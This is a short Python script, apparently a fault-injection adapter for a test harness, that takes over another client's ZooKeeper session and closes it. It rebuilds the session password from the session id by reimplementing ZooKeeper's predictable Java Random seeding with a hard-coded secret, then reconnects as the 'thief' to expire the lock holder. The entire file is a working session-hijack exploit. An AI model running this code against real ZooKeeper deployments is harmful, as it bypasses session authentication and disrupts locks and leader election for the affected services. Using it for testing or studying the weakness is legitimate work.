"""Adapter. Ends the ZooKeeper session of whoever holds the election's lock, as a server would.

    python expire_session.py HOST:PORT LOCK_PATH

The id of the session stands in the lock's node. ZooKeeper's password of a session is a function of
its id (SessionTrackerImpl, ZooKeeperServer.generatePasswd), so that anybody can go on with the
session, and close it: its owner is told that it has expired.
"""

from __future__ import annotations

import sys

from kazoo.client import KazooClient

SUPER_SECRET = 0xB3415C00
PASSWORD_BYTES = 16
MASK = (1 << 48) - 1
TIMEOUT_S = 5


def password_of(session: int) -> bytes:
    """`new java.util.Random(session ^ SUPER_SECRET).nextBytes(16 bytes)`."""
    state = ((session ^ SUPER_SECRET) ^ 0x5DEECE66D) & MASK
    found = b""
    while len(found) < PASSWORD_BYTES:
        state = (state * 0x5DEECE66D + 0xB) & MASK
        found += (state >> 16).to_bytes(4, "little")
    return found


def main() -> None:
    hosts, lock = sys.argv[1:]
    client = KazooClient(hosts, timeout=TIMEOUT_S)
    client.start(TIMEOUT_S)
    found = client.exists(lock)
    client.stop()
    client.close()
    if found is None:
        sys.exit(f"{lock}: nobody holds it")
    session = found.owner_session_id
    thief = KazooClient(hosts, client_id=(session, password_of(session)), timeout=TIMEOUT_S)
    thief.start(TIMEOUT_S)
    same = thief.client_id[0] == session
    thief.stop()
    thief.close()
    if not same:
        sys.exit(f"session {session:#x} was not found: it had ended before")


if __name__ == "__main__":
    main()
